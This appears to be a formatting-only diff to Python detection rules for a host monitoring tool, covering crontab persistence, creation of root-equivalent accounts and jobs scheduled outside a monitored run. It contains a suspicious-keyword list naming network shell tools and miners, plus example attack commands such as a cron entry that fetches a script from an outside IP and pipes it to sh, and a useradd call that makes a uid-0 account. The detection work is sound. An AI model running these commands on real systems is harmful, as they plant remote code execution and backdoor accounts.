@@ -6,7 +6,10 @@ from apps.detection.reading import Reading
 from apps.detection.rules.base import PROCESS, Detail, Rule
 from apps.detection.rules.common import asks_for_help
 
-_SUSPECT = ("/tmp/", "/dev/shm", "/var/tmp", "curl", "wget", "nc ", "bash -i", "/dev/tcp", "@reboot", "base64", "python", "ssh ", "/.", "xmrig")
+_SUSPECT = (
+    "/tmp/", "/dev/shm", "/var/tmp", "curl", "wget", "nc ", "bash -i", "/dev/tcp", "@reboot", "base64",
+    "python", "ssh ", "/.", "xmrig",
+)  # fmt: skip
 
 
 def _crontab(reading: Reading) -> Detail | None:
@@ -23,9 +26,20 @@ def _crontab(reading: Reading) -> Detail | None:
 
 
 def _account(invocation: Invocation) -> Detail | None:
-    options = getopt(invocation.args, "b:c:d:e:f:g:G:k:K:p:s:u:Z:a", frozenset({"--uid", "--gid", "--groups", "--shell", "--password", "--comment"}))
+    options = getopt(
+        invocation.args,
+        "b:c:d:e:f:g:G:k:K:p:s:u:Z:a",
+        frozenset({"--uid", "--gid", "--groups", "--shell", "--password", "--comment"}),
+    )
     root = options.value("u", "--uid") == "0" or options.value("g", "--gid") in ("0", "root")
-    groups = set(options.value("G", "--groups").split(",")) & {"sudo", "wheel", "root", "admin", "shadow", "disk"}
+    groups = set(options.value("G", "--groups").split(",")) & {
+        "sudo",
+        "wheel",
+        "root",
+        "admin",
+        "shadow",
+        "disk",
+    }
     return {"arguments": " ".join(invocation.args), "root": root} if root or groups else None
 
 
@@ -39,7 +53,11 @@ def _schedules(invocation: Invocation) -> Detail | None:
     if invocation.zone != "run" or asks_for_help(invocation.args or ("x",)):
         return None
     listing = {"-l", "-r", "-e", "-d", "-c", "--list"} & set(invocation.args)
-    return None if listing and invocation.program in ("at", "crontab", "batch") else {"program": invocation.program, "arguments": " ".join(invocation.args)}
+    return (
+        None
+        if listing and invocation.program in ("at", "crontab", "batch")
+        else {"program": invocation.program, "arguments": " ".join(invocation.args)}
+    )
 
 
 CRONTAB = Rule(
@@ -50,13 +68,18 @@ CRONTAB = Rule(
     level="high",
     technique="T1053.003",
     title="Scheduled job installed",
-    description="crontab is given a table from a scratch folder, or one that downloads, connects or starts something hidden.",
+    description=(
+        "crontab is given a table from a scratch folder, or one that downloads, connects or starts "
+        "something hidden."
+    ),
     false_positives="Set-up of a host by an operator.",
-    examples=("(crontab -l; echo '*/5 * * * * curl -s http://203.0.113.9/x | sh') | crontab -", "crontab /tmp/c"),
+    examples=(
+        "(crontab -l; echo '*/5 * * * * curl -s http://203.0.113.9/x | sh') | crontab -", "crontab /tmp/c",
+    ),
     match=_crontab,
     reads="reading",
-    programs=frozenset({"crontab"}),
-)
+    programs=frozenset({'crontab'}),
+)  # fmt: skip
 ACCOUNT = Rule(
     slug="root-account-made",
     version=1,
@@ -65,7 +88,9 @@ ACCOUNT = Rule(
     level="high",
     technique="T1136.001",
     title="Account with root's rights made",
-    description="An account is created or changed to have user or group 0, or to belong to the administrators.",
+    description=(
+        "An account is created or changed to have user or group 0, or to belong to the administrators."
+    ),
     false_positives="Set-up of a host by an operator.",
     examples=("useradd -o -u 0 -g 0 x", "usermod -aG sudo x"),
     match=_account,
@@ -93,7 +118,10 @@ SCHEDULES = Rule(
     level="high",
     technique="T1053",
     title="Run schedules something outside itself",
-    description="A process of a run starts systemd-run, at, batch or crontab: what they start belongs to another cgroup and outlives the run.",
+    description=(
+        "A process of a run starts systemd-run, at, batch or crontab: what they start belongs to another "
+        "cgroup and outlives the run."
+    ),
     false_positives="Launchers that use systemd scopes; record the scope with the run.",
     examples=("systemd-run --user --unit=x /bin/sh -c id", "at now + 1 minute -f /tmp/x"),
     match=_schedules,
